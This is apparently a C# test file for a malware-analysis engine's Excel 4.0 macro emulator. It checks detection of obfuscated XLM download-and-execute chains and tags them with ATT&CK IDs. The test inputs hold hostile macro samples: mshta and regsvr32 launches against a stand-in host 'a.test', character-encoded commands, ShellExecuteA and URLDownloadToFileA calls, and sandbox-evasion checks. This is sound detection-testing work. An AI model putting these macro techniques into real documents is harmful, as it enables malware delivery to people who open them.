using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.ExcelMacro;

public sealed class ExcelMacroEmulatorTests
{
    [Theory]
    [InlineData("m!A1: =EXEC(\"mshta http://a.test/x\")\nm!A2: =HALT()")]
    [InlineData("m!A1: =FORMULA(\"=EXEC(\"\"mshta http://a.test/x\"\")\",A3)\nm!A2: =GOTO(A3)")]
    [InlineData("m!A1: =EXEC(CHAR(109)&CHAR(115)&\"hta \"&MID(\"zzhttp://a.test/xzz\",3,15))")]
    [InlineData("m!A1: =RUN(B5)\nm!A2: =HALT()\nm!B5: =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)\nm!B6: =EXEC(\"mshta http://a.test/x\")\nm!B7: =RETURN()")]
    [InlineData("m!A1: =FOR(\"i\",1,5)\nm!A2: =SET.VALUE(C1,C1&CHAR(INDEX(D1:D5,i)-1))\nm!A3: =NEXT()\nm!A4: =EXEC(C1&\" http://a.test/x\")\nm!D1: 110\nm!D2: 116\nm!D3: 105\nm!D4: 117\nm!D5: 98")]
    [InlineData("m!A1: =SET.NAME(\"q\",\"mshta \")\nm!A2: =EXEC(q&\"http://a.test/x\")")]
    [InlineData("m!A1: =SET.VALUE(B1,1)\nm!A2: =WHILE(B1<4)\nm!A3: =SET.VALUE(B1,B1+1)\nm!A4: =NEXT()\nm!A5: =IF(B1=4,EXEC(\"mshta http://a.test/x\"),HALT())")]
    [InlineData("m!A1: =REGISTER(\"shell32\",\"ShellExecuteA\",\"JJCCCCJ\",\"zz\",,1,9)\nm!A2: =zz(0,\"open\",\"mshta\",\"http://a.test/x\",0,0)")]
    [InlineData("m!A1: =mshta|'http://a.test/x'!A0")]
    [InlineData("m!A1: =ON.TIME(NOW()+1,\"m!C1\")\nm!C1: =EXEC(\"mshta \"&\"http://a.test/x\")")]
    public void A_sheet_is_followed_to_its_command(string source)
    {
        var report = Emulated.Run(ScriptLanguage.ExcelMacro, source);

        Assert.True(report.Has(BehaviourKind.Execute, "T1218.005"), report.Told());
        Assert.Contains("http://a.test/x", report.Addresses);
    }

    [Fact]
    public void A_fetched_program_that_is_started_is_known()
    {
        var report = Emulated.Run(ScriptLanguage.ExcelMacro, "m!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.test/x\",\"C:\\ProgramData\\x.ocx\",0,0)\nm!A2: =EXEC(\"regsvr32 C:\\ProgramData\\x.ocx\")");

        Assert.True(report.Has(BehaviourKind.Download, "T1105") && report.Has(BehaviourKind.Execute, "T1204.002"), report.Told());
    }

    [Fact]
    public void The_flow_begins_at_the_defined_name()
    {
        var report = Emulated.Run(ScriptLanguage.ExcelMacro, "m!A1: =EXEC(B1)\nm!C1: =SET.VALUE(B1,\"mshta http://a.test/x\")\nm!C2: =GOTO(A1)", page: "Name.Auto_Open=m!$C$1");

        Assert.Contains("http://a.test/x", report.Addresses);
    }

    [Fact]
    public void Looking_for_a_screen_and_a_mouse_is_evasion() =>
        Assert.True(Emulated.Run(ScriptLanguage.ExcelMacro, "m!A1: =IF(GET.WORKSPACE(19),,CLOSE(TRUE))").Has(BehaviourKind.Evade, "T1497.001"));

    [Theory]
    [InlineData("m!A1: =SUM(B1:B9)*1.19\nm!A2: =IF(A1>100,\"much\",\"little\")")]
    [InlineData("m!A1: =ALERT(\"Hello\")\nm!A2: =SELECT(\"R1C1\")\nm!A3: =FORMULA(\"Total\")\nm!A4: =RETURN()")]
    public void An_honest_sheet_tells_nothing(string source) => Assert.Equal("", Emulated.Run(ScriptLanguage.ExcelMacro, source).Told());

    [Theory]
    [InlineData("m!A1: =GOTO(A1)")]
    [InlineData("m!A1: =RUN(A1)")]
    [InlineData("m!A1: =WHILE(TRUE)\nm!A2: =NEXT()")]
    [InlineData("m!A1: =SET.VALUE(B1,B1&B1&\"x\")\nm!A2: =GOTO(A1)")]
    [InlineData("m!A1: =FORMULA.FILL(\"=GOTO(A1)\",A1:Z9999)")]
    [InlineData("m!A1: =((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1")]
    public void A_sheet_without_end_ends(string source) => Assert.NotNull(Emulated.Run(ScriptLanguage.ExcelMacro, source));

    [Fact]
    public void Any_text_is_read_to_an_end() => Sources.Check(
        ScriptLanguage.ExcelMacro,
        ["FORMULA(", "CHAR(65)", "&", "\"x\"", ")", "(", ",", "A1", "$B$2", "R1C1", "GOTO(", "RUN(", "IF(", "WHILE(", "NEXT()", "EXEC(", "CALL(", "=", "<>", "+", "-", "%", "'", "!", "|", "\nm!A2: =", "\nm!A3: ", "OFFSET(", "1"],
        "m!A1: =");
}
